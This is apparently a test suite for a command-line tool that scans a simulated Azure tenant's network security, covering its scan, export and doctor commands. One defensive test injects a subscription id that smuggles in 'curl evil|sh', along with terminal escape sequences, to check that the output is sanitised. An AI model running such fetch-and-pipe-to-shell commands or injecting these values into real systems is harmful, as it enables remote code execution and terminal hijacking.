/** The command against a simulated tenant, over real HTTPS: what a pipeline sees. */
import { readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { run } from '../../cli/run.ts';
import { services } from '../../cli/services.ts';
import { parseReport } from '../../shared/reports/report.ts';
import { demoEstate } from '../../simulator/estate/demo-estate.ts';
import type { SimulatorOptions } from '../../simulator/start-simulator.ts';
import { simulatedAzure } from '../adapters/azure/simulated-azure.ts';
import { collector, temporaryFolder } from './made-up-world.ts';

const { rows, truth } = demoEstate();
const settings = join(import.meta.dirname, '../../demo/portcullis.settings.json');

/** Runs a verb against the tenant, as a person in a new folder would. */
async function onAzure(argv: readonly string[], options: Omit<SimulatorOptions, 'rows'> = {}) {
  const { simulator, source } = await simulatedAzure(rows, options);
  return { ...(await command(argv, source.cloud)), simulator };
}

async function command(argv: readonly string[], cloud: string) {
  const folder = await temporaryFolder();
  const out = collector(false);
  const err = collector(false);
  const code = await run(
    argv,
    {
      stdout: out.outlet,
      stderr: err.outlet,
      stdin: (async function* () {})(),
      interruption: () => new AbortController().signal,
      env: { PORTCULLIS_CLOUD: cloud },
      folder,
      version: '1.2.3',
      now: () => new Date('2026-11-23T03:12:00Z'),
    },
    services,
  );
  return { code, out: out.text(), err: err.text(), folder };
}

async function scanOf(estate: string, named: string) {
  const argv = ['scan', '--estate', estate, '--settings', named, '--format', 'json', '--quiet'];
  return parseReport(JSON.parse((await command(argv, 'public')).out));
}

const scanJson = ['scan', '--settings', settings, '--format', 'json', '--quiet'];
const unreadTables = {
  reader: {
    grants: [
      { scope: '/', actions: ['*/read'], notActions: ['Microsoft.Network/routeTables/read'] },
    ],
  },
};

describe('scan', () => {
  it('reports on the tenant, and on what it cost', async () => {
    const { code, out, simulator } = await onAzure(scanJson);
    expect(code).toBe(0);
    const report = parseReport(JSON.parse(out));
    expect(report.source).toBe('live');
    expect(report.verdicts.length).toBe(truth.length);
    const asked = (path: RegExp) => simulator.requests.filter((one) => path.test(one.path)).length;
    expect(report.cost).toMatchObject({
      resourceGraphCalls: asked(/resourcegraph/i),
      graphCalls: asked(/^\/v1\.0\//),
      armReads: asked(/^\/(?:subscriptions|providers\/microsoft\.management)\//i),
      armWrites: 0,
    });
    expect(report.cost.resourceGraphCalls).toBeLessThan(20);
  });

  it('reads, and writes nothing', async () => {
    const { simulator } = await onAzure(scanJson);
    const other = simulator.requests.filter(
      ({ method, path }) => method !== 'GET' && !/resourcegraph|oauth2/i.test(path),
    );
    expect(other).toEqual([]);
  });

  it.each<[string, readonly string[], Omit<SimulatorOptions, 'rows'>, number]>([
    ['everything read and nothing to fail on', ['--check', 'network-contributor-granted'], {}, 0],
    ['a failure', ['--fail-on', 'high'], {}, 1],
    ['a failure beside gaps', ['--fail-on', 'high'], unreadTables, 1],
    ['gaps', ['--fail-on', 'critical'], unreadTables, 3],
    ['gaps that nobody asked to fail on', [], unreadTables, 0],
  ])('exits for %s', async (_, more, options, expected) => {
    const { code } = await onAzure([...scanJson, ...more], options);
    expect(code).toBe(expected);
  });

  it('exits with 2 and one line where nobody is signed in', async () => {
    const { source } = await simulatedAzure(rows);
    vi.stubEnv('AZURE_CLIENT_SECRET', 'wrong');
    const { code, err } = await command(['scan', '--quiet'], source.cloud);
    expect(code).toBe(2);
    expect(err).toMatch(/^portcullis: cannot sign in to Azure: [^\n]+\n$/);
  });

  it('exits with 2 where the reader sees no subscription', async () => {
    const { code, out, err } = await onAzure(['scan', '--quiet'], { reader: { grants: [] } });
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(err).toMatch(/^portcullis: nothing can be read from https:\/\/localhost:\d+: \S/);
  });
});

describe('export', () => {
  it('writes a folder that scan reads', async () => {
    const { code, out, folder } = await onAzure(['export', '-o', 'estate', '--quiet']);
    expect(code).toBe(0);
    // One cluster of the demo names a network in a subscription that nobody here sees.
    expect(out).toContain('1 thing could not be read');
    const manifest: unknown = JSON.parse(
      await readFile(join(folder, 'estate', 'manifest.json'), 'utf8'),
    );
    expect(manifest).toMatchObject({
      gaps: [{ what: expect.stringContaining('the resources of subscription') }],
    });
  });

  it('redacts, and the redacted estate gets the same verdicts with the settings beside it', async () => {
    const plain = await onAzure(['export', '-o', 'estate', '--quiet', '--settings', settings]);
    const { code, out, folder } = await onAzure(
      'export --redact -o estate --quiet --settings'.split(' ').concat(settings),
    );
    expect(code).toBe(0);
    const hint = `--settings ${join('estate', 'portcullis.settings.redacted')}`;
    expect(out).toContain(hint);
    const scanned = async (where: string, named: string) => {
      const { clusters, summary } = await scanOf(join(where, 'estate'), named);
      return { clusters: clusters.length, summary };
    };
    const redactedSettings = join(folder, 'estate', 'portcullis.settings.redacted');
    expect(await scanned(folder, redactedSettings)).toEqual(await scanned(plain.folder, settings));
    const files = await readdir(join(folder, 'estate'));
    const texts = await Promise.all(
      files.map((name) => readFile(join(folder, 'estate', name), 'utf8')),
    );
    expect(texts.join('\n')).not.toMatch(/allow-names-yesterdays-ip|bank-fraud-prod/i);
  });

  it('needs a folder to write to', async () => {
    const { code, err } = await onAzure(['export']);
    expect(code).toBe(2);
    expect(err).toContain('--output <folder>');
  });
});

describe('doctor', () => {
  it('finds everything in order for Reader on the tenant', async () => {
    const { code, out } = await onAzure(['doctor']);
    expect(code).toBe(0);
    expect(out).toMatch(
      /3 subscriptions can be read: bank-fraud-prod, bank-pricing-prod,\s+bank-search-prod\./,
    );
    expect(out).not.toContain('✗');
  });

  it('names what is missing, where, and the command that grants it', async () => {
    const { code, out, simulator } = await onAzure(['doctor'], {
      ...unreadTables,
      graphDenied: true,
    });
    expect(code).toBe(3);
    expect(out).toContain('Microsoft.Network/routeTables/read');
    const [subscription] = truth.map(({ clusterId }) => clusterId.split('/')[2]);
    expect(out).toContain(
      `az role assignment create --role Reader --assignee-object-id ${simulator.reader.objectId} --scope /subscriptions/${subscription}`,
    );
    expect(out).toContain('Microsoft Graph refuses');
    expect(out).toContain('Application.Read.All');
  });

  it('says what to grant where no subscription is visible', async () => {
    const { code, out } = await onAzure(['doctor'], { reader: { grants: [] } });
    expect(code).toBe(3);
    expect(out).toContain('No subscription is visible');
    expect(out).toContain('az role assignment create --role Reader');
  });

  it('puts nothing into a command, nor on the terminal, that Azure could have made up', async () => {
    const evil = `11111111-1111-4111-8111-111111111111; curl evil|sh \u001B[2J`;
    const row = {
      id: `/subscriptions/${evil}`,
      name: 'evil\u001B]0;title\u0007',
      type: 'microsoft.resources/subscriptions',
      properties: {},
    };
    const body = {
      totalRecords: 1,
      count: 1,
      resultTruncated: 'false',
      facets: [],
      data: [row],
    };
    const { out, err } = await onAzure(['doctor'], {
      faults: [{ path: 'resourcegraph/resources$', does: { kind: 'status', status: 200, body } }],
    });
    expect(out).toContain('--scope /subscriptions/<subscription id>');
    expect(out).not.toMatch(/--scope [^\n]*evil/);
    expect(out + err).not.toContain('\u001B');
  });

  it('and neither does what it says of an error', async () => {
    const error = { code: 'Bad', message: 'no\u001B[2J\u001B]0;title\u0007\u202Eon' };
    const { code, err } = await onAzure(['scan', '--quiet'], {
      faults: [
        {
          path: 'resourcegraph/resources$',
          does: { kind: 'status', status: 403, body: { error } },
        },
      ],
    });
    expect(code).toBe(2);
    expect(err.replaceAll('\n', '')).toMatch(/^[^\p{Cc}\u202E]+$/u);
  });

  it('says that groups are refused, and does without', async () => {
    const { code, out } = await onAzure(['doctor'], {
      faults: [{ path: '^/v1.0/groups/', does: { kind: 'status', status: 403 } }],
    });
    expect(code).toBe(0);
    expect(out).toContain('Groups it refuses');
  });

  it('says what a remediation would need, apart from what a scan needs', async () => {
    const { code, out, simulator } = await onAzure(['doctor']);
    expect(code).toBe(0);
    const [scan = '', remediate = ''] = out.split('TO REMEDIATE');
    expect(scan).not.toContain('securityRules/write');
    expect(remediate).toMatch(/May not change rules of network security groups in \d+ of \d+/);
    expect(remediate).toContain('"Actions":["Microsoft.Network/networkSecurityGroups/read",');
    const flat = remediate.replaceAll(/\s*\\\n\s+/g, ' ');
    expect(flat).toContain(
      `az role assignment create --assignee-object-id ${simulator.reader.objectId} --assignee-principal-type ServicePrincipal --role 'Portcullis security rules' --scope '/subscriptions/`,
    );
    // Whoever may hand out roles may hand out this one alone.
    expect(flat).toMatch(
      /--role 'Portcullis role assignments' --scope '\S+' --condition-version 2\.0 --condition '\S.*@Request\[.*GuidEquals \{4d97b98b-1d4f-4787-a291-c67834d212e7\}/,
    );
    expect(remediate).toContain('✓ No lock and no deny assignment stands in the way.');
  });

  it('asks for nothing that is there, and names the locks in the way', async () => {
    const [group] = truth.map(({ clusterId }) => clusterId.replace(/\/providers\/.*/i, '-net-10'));
    const locked = `${group ?? ''}/providers/Microsoft.Authorization/locks/keep`;
    const lock = {
      id: locked,
      name: 'keep',
      type: 'microsoft.authorization/locks',
      properties: { level: 'CanNotDelete' },
    };
    const { simulator, source } = await simulatedAzure([...rows, lock], {
      reader: { grants: [{ scope: '/', actions: ['*'] }] },
    });
    const { code, out } = await command(['doctor', '--quiet'], source.cloud);
    expect(code).toBe(0);
    expect(out).toMatch(/✓ May change rules of network security groups in \d+ resource groups\./);
    expect(out).toMatch(/✓ May assign roles on the networks in \d+ resource groups\./);
    expect(out).toContain('· Lock keep (CanNotDelete) at');
    expect(out).not.toContain('az role');
    const writes = simulator.requests.filter(
      ({ method, path }) => method !== 'GET' && !/resourcegraph|oauth2/i.test(path),
    );
    expect(writes).toEqual([]);
  });

  it('finds what is wrong with the settings, and looks at the rest', async () => {
    const wrong = join(await temporaryFolder(), 'settings.json');
    await writeFile(wrong, '{"outbund":"restricted"}');
    const { code, out } = await onAzure(['doctor', '--settings', wrong, '--quiet']);
    expect(code).toBe(3);
    expect(out).toMatch(/✗ settings [^]*outbound/);
    expect(out).toContain('✓ 3 subscriptions can be read');
  });

  it('finds names in the settings that fit no cluster', async () => {
    const astray = join(await temporaryFolder(), 'settings.json');
    await writeFile(astray, '{"callers":{"clusters":{"allow-on-wrong-prt":"none"}}}');
    const { out } = await onAzure(['doctor', '--settings', astray, '--quiet']);
    expect(out.replaceAll(/\s+/g, ' ')).toContain('did you mean allow-on-wrong-port');
  });

  it('says which ways to sign in were tried', async () => {
    const { source } = await simulatedAzure(rows);
    for (const name of ['AZURE_TENANT_ID', 'AZURE_CLIENT_ID', 'AZURE_CLIENT_SECRET']) {
      vi.stubEnv(name, '');
    }
    const { code, err } = await command(['doctor'], source.cloud);
    expect(code).toBe(2);
    expect(err).toMatch(/run az login[^\n]*tried:\n(?:portcullis: {3}\S[^\n]*\n)+$/);
  });
});
